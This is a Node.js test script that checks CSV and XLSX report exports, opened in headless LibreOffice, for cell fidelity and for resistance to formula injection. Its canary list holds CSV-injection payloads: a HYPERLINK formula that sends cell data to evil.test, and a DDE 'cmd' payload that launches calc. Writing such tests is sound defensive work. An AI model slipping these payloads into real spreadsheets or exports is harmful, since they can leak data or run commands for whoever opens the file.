/**
 * Opens the CSV of each layout and dialect and the workbook of a run in each language with LibreOffice, reads them back and
 * compares every cell: same texts, same numbers, none missing and none too many, and no formula, though titles, findings and
 * excerpts begin as formulas do.
 *
 *   node test/checks/check-office.mjs [--dist DIR] [--run DIR]
 *
 * `--run` names a saved run; the demo is made and saved when it is left out. Skipped where there is no `soffice`.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseArgs } from 'node:util';
import * as cheerio from 'cheerio';
import { parse } from 'csv-parse/sync';
import { root } from './shared.mjs';

const { values: flags } = parseArgs({
  options: { dist: { type: 'string', default: path.join(root, 'dist') }, run: { type: 'string' } },
});
const load = (file) => import(pathToFileURL(path.resolve(flags.dist, file)).href);
const say = (text) => process.stdout.write(`${text}\n`);

const version = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
if (version.error) {
  say('Skipped: there is no soffice (Debian: libreoffice-calc-nogui).');
  process.exit(0);
}

const folder = mkdtempSync(path.join(tmpdir(), 'office-'));
process.on('exit', () => rmSync(folder, { recursive: true, force: true }));

function demo() {
  const saved = path.join(folder, 'run');
  const { status, stderr } = spawnSync(
    process.execPath,
    [path.resolve(flags.dist, '../bin/support-audit.js'), 'demo', '--quiet', '--save', saved],
    { encoding: 'utf8' },
  );
  if (status === 0) return saved;
  throw new Error(`The demo failed: ${stderr}`);
}

const canaries = [
  ...['=1+1', '+1', '-1+2', '@SUM(1,2)', '\t=1', '\r=1', '\uff1d1+1', '\uff0b1', ' =1', '\u200b=1', "'=1"],
  '=HYPERLINK("https://evil.test/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  'says "yes"; no, 1,5 or 1.5',
  '_x000D_',
  'constructor',
  '😀 поддержка 支持',
];

/** A company whose titles, notes and evidence begin as formulas do. */
function hostile(card) {
  let turn = 0;
  const canary = () => canaries[turn++ % canaries.length];
  const evidence = (list) => list.map((one) => ({ ...one, where: canary(), excerpt: canary() }));
  const reading = (one) => (one.state === 'found' ? { ...one, evidence: evidence(one.evidence), note: canary() } : one);
  return {
    ...card,
    domain: 'hostile.test',
    name: canary(),
    channels: card.channels.map((channel) => ({
      ...channel,
      criteria: channel.criteria.map((criterion) => ({ ...criterion, title: canary() })),
    })),
    readings: Object.fromEntries(Object.entries(card.readings).map(([id, one]) => [id, reading(one)])),
  };
}

/** Opens files and saves them as flat OpenDocument, in which nothing is hidden. */
function opened(files, filter) {
  const out = path.join(folder, `out-${path.basename(files[0])}`);
  mkdirSync(out);
  const { status, stderr } = spawnSync(
    'soffice',
    [
      ...[`-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`, '--headless'],
      ...(filter === undefined ? [] : [`--infilter=CSV:${filter}`]),
      ...['--convert-to', 'fods', '--outdir', out, ...files],
    ],
    { encoding: 'utf8', timeout: 300_000 },
  );
  if (status !== 0) throw new Error(`soffice failed: ${stderr}`);
  return files.map((file) => readFileSync(path.join(out, `${path.parse(file).name}.fods`), 'utf8'));
}

/** Sheets with their cells by row and column: text, number or time; and how many of them are formulas. */
function sheetsOf(text) {
  const $ = cheerio.load(text, { xml: true });
  const cellIn = (cell) => {
    const kind = cell.attribs['office:value-type'];
    if (kind === 'float' || kind === 'percentage') return Number(cell.attribs['office:value']);
    if (kind === 'date') return { time: cell.attribs['office:date-value'] };
    return $(cell).children('text\\:p').text();
  };
  const sheets = $('table\\:table')
    .toArray()
    .map((table) => ({
      name: table.attribs['table:name'],
      rows: $(table)
        .find('table\\:table-row')
        .toArray()
        .flatMap((row) => {
          const cells = $(row)
            .children('table\\:table-cell')
            .toArray()
            .flatMap((cell) =>
              Array(Math.min(200, Number(cell.attribs['table:number-columns-repeated'] ?? 1))).fill(cellIn(cell)),
            );
          return Array(
            cells.some((cell) => cell !== '')
              ? Number(row.attribs['table:number-rows-repeated'] ?? 1)
              : Math.min(5, Number(row.attribs['table:number-rows-repeated'] ?? 1)),
          ).fill(cells);
        }),
    }));
  return { sheets, formulas: $('[table\\:formula]').length };
}

/** Whether what was read back is what was written; times to the second. */
function same(wanted, got) {
  if (wanted === '') return got === '' || got === undefined;
  if (typeof wanted === 'number') return typeof got === 'number' && Math.abs(wanted - got) < 1e-9;
  if (wanted instanceof Date) return Math.abs(Date.parse(`${got?.time}Z`) - wanted.getTime()) < 1000;
  return got === wanted;
}

/** Without the empty cells at the end of rows and the empty rows at the end, of which a sheet has as many as it likes. */
function trimmed(rows) {
  const isFull = (cell) => cell !== '' && cell !== undefined;
  const cut = rows.map((cells) => cells.slice(0, cells.findLastIndex(isFull) + 1));
  return cut.slice(0, cut.findLastIndex((cells) => cells.length > 0) + 1);
}

let compared = 0;
const faults = [];
function compare(name, wanted, sheet) {
  if (sheet === undefined) return void faults.push(`${name}: there is no such sheet`);
  const rows = trimmed(sheet.rows);
  const expected = trimmed(wanted);
  if (rows.length !== expected.length) faults.push(`${name}: ${expected.length} rows became ${rows.length}`);
  rows.forEach((cells, row) => {
    const most = expected[row]?.length ?? 0;
    if (cells.length > most) faults.push(`${name}, row ${row + 1}: ${most} cells became ${cells.length}`);
  });
  wanted.forEach((cells, row) => {
    cells.forEach((cell, column) => {
      compared += 1;
      const got = rows[row]?.[column];
      if (!same(cell, got))
        faults.push(`${name}, row ${row + 1}, column ${column + 1}: ${JSON.stringify(cell)} became ${JSON.stringify(got)}`);
    });
  });
}

const [{ readRunReport }, { prepared, render }, { renderXlsx }, { sheetOf }, { gridOf }, ...makers] = await Promise.all(
  [
    ...['run/run-report.js', 'report/index.js', 'report/xlsx.js', 'report/xlsx-cells.js', 'report/grid.js'],
    ...['report/xlsx-summary.js', 'report/xlsx-scores.js', 'report/xlsx-evidence.js', 'report/xlsx-rubric.js'],
  ].map(load),
);
const [{ summary }, { scores }, { evidence }, { rubricTable }] = makers;

const saved = await readRunReport(flags.run ?? demo());
const report = { ...saved, scorecards: [...saved.scorecards, hostile(saved.scorecards[0])] };
const started = performance.now();
const file = (name, content) => {
  writeFileSync(path.join(folder, name), content);
  return path.join(folder, name);
};

/** Columns, quotes, UTF-8, from the first line; language; numbers in quotes are numbers; formulas are run. */
const filterFor = (separator, language) => `${separator.charCodeAt(0)},34,76,1,,${language},false,false,false,false,false,0,true`;
const [english, german] = [1033, 1031];

const dialects = [
  { separator: ',', language: english, names: ['rfc4180', 'excel'] },
  { separator: ';', language: german, names: ['excel-semicolon'] },
];
for (const { separator, language, names } of dialects) {
  const made = names.flatMap((dialect) =>
    ['tidy', 'wide'].map((layout) => {
      const text = render(report, { format: 'csv', csv: { layout, dialect } });
      const number = language === german ? /^-?\d+(?:,\d+)?$/ : /^-?\d+(?:\.\d+)?$/;
      const typed = (cell) => (number.test(cell) ? Number(cell.replace(',', '.')) : cell);
      const wanted = parse(text, { bom: true, delimiter: separator, record_delimiter: '\r\n' }).map((row) => row.map(typed));
      return { name: `${layout} ${dialect}`, wanted, file: file(`${layout}-${dialect}.csv`, text) };
    }),
  );
  // That nothing is run means something only where formulas would be.
  const control = file(`control-${language}.csv`, `"=1+1"${separator}"2"\r\n`);
  const [controlled, ...texts] = opened([control, ...made.map((one) => one.file)], filterFor(separator, language));
  if (sheetsOf(controlled).formulas !== 1) faults.push('This LibreOffice runs no formula in a CSV, so the check shows nothing.');
  texts.forEach((text, index) => {
    const { sheets, formulas } = sheetsOf(text);
    const { name, wanted } = made[index];
    if (formulas > 0) faults.push(`${name}: ${formulas} formulas`);
    compare(name, wanted, sheets[0]);
  });
}

/** As the library and the workbook take it. */
const decoded = (text) => text.replaceAll('_x005F_', '_').replace(/\uffff$/, '');
const wantedOf = (cell) => (typeof cell?.value === 'string' ? decoded(cell.value) : (cell?.value ?? ''));
const workbooks = [];
for (const locale of ['en', 'ru']) {
  const { report: ready, setting } = prepared(report, { locale });
  const grid = gridOf(ready, setting);
  const ranked = { ...ready, scorecards: grid.cards };
  const tables = [
    summary(ready, grid, setting),
    scores(ranked, setting),
    evidence(ranked, setting),
    rubricTable(ready, grid, setting),
  ].map((table) => sheetOf(table, setting));
  const before = performance.now();
  const bytes = await renderXlsx(report, { locale });
  workbooks.push({ locale, bytes: bytes.length, milliseconds: Math.round(performance.now() - before), sheets: tables.length });
  const [workbook] = opened([file(`workbook-${locale}.xlsx`, bytes)]);
  const { sheets, formulas } = sheetsOf(workbook);
  if (formulas > 0) faults.push(`workbook ${locale}: ${formulas} formulas`);
  if (sheets.length !== tables.length) faults.push(`workbook ${locale}: ${tables.length} sheets became ${sheets.length}`);
  tables.forEach(({ sheet, data }, index) => {
    if (sheets[index]?.name !== sheet) faults.push(`workbook ${locale}: the sheet ${sheet} is called ${sheets[index]?.name}`);
    const wanted = data.map((row) => row.map(wantedOf));
    compare(`workbook ${locale}, ${sheet}`, wanted, sheets[index]);
  });
}

if (compared === 0) faults.push('No cell was compared.');
for (const fault of faults.slice(0, 40)) say(fault);
say(version.stdout.trim());
say(
  `${compared} cells of 6 CSV files and ${workbooks.reduce((sum, one) => sum + one.sheets, 0)} sheets of ${report.scorecards.length} companies compared, ${faults.length} differ, in ${((performance.now() - started) / 1000).toFixed(1)} s.`,
);
for (const { locale, bytes, milliseconds } of workbooks)
  say(`The workbook in ${locale} has ${bytes} bytes and was made in ${milliseconds} ms.`);
process.exitCode = faults.length === 0 ? 0 : 1;
